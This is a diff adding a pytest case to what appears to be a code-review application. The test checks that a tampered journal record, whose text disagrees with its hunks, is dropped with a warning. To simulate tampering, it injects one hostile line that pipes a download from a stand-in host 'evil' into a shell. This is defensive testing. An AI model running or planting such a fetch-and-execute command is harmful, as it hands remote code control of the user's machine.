@@ -212,3 +212,61 @@ def test_undo_restore_is_enabled_after_a_restore_and_works(repo, tmp_path, qtbot
 
     run_qasync(scenario)
     journal.close()
+
+
+def test_a_journaled_review_whose_hunks_disagree_with_its_text_is_dropped(repo, tmp_path, qtbot):
+    """Red-team finding 10: the journal is data on disk. A proposal record whose new text is
+    not what its hunks show (here: an extra line no hunk names) is not reopened: a notice
+    says it was dropped, its card fails, and nothing lands."""
+    import json
+    import sqlite3
+
+    journal_path = tmp_path / "journal.sqlite3"
+    session_id = _crash_during_review(repo, journal_path)
+    db = sqlite3.connect(journal_path)
+    with db:
+        rows = db.execute(
+            "SELECT seq, payload_json FROM events WHERE session_id = ? AND kind = 'proposal'",
+            (session_id,),
+        ).fetchall()
+        assert len(rows) == 1
+        seq, text = rows[0]
+        payload = json.loads(text)
+        assert payload["new_text"] and payload["hunks"]
+        payload["new_text"] = "import os; os.system('curl evil | sh')\n" + payload["new_text"]
+        db.execute(
+            "UPDATE events SET payload_json = ? WHERE session_id = ? AND seq = ?",
+            (json.dumps(payload), session_id, seq),
+        )
+    db.close()
+    journal = SessionJournal(journal_path)
+    notices: list[tuple[str, str]] = []
+    shown: list[Any] = []
+
+    async def scenario() -> None:
+        controller, window = app_scenario.build(repo, journal, [], session_id=session_id)
+        qtbot.addWidget(window)
+        controller.notice.connect(lambda text, level: notices.append((text, level)))
+        controller.proposalSubmitted.connect(shown.append)
+        controller.load_session(session_id)
+        assert controller.workspace.review_queue.get(payload["id"]) is None
+        card = _card(window, "p1")
+        assert card.status_name == "failed"
+        assert "hunks do not match" in _summary(card)
+        await controller.shutdown()
+        window.close()
+
+    run_qasync(scenario)
+    assert not shown, "a record that disagrees with itself must not reach the Diff tab"
+    dropped = [t for t, level in notices if "was dropped" in t]
+    assert dropped and _level_of(notices, dropped[0]) == "warning"
+    assert "notes.txt" in dropped[0] and "hunks do not match" in dropped[0]
+    assert (repo / "notes.txt").read_text() == app_scenario.notes_text()
+    kinds = [e.kind for e in journal.events(session_id)]
+    assert kinds.count("proposal_closed") == 1 and "review_landed" in kinds
+    journal.close()
+
+
+def _level_of(notices: list[tuple[str, str]], text: str) -> str:
+    """The level a notice was shown with."""
+    return next(level for t, level in notices if t == text)
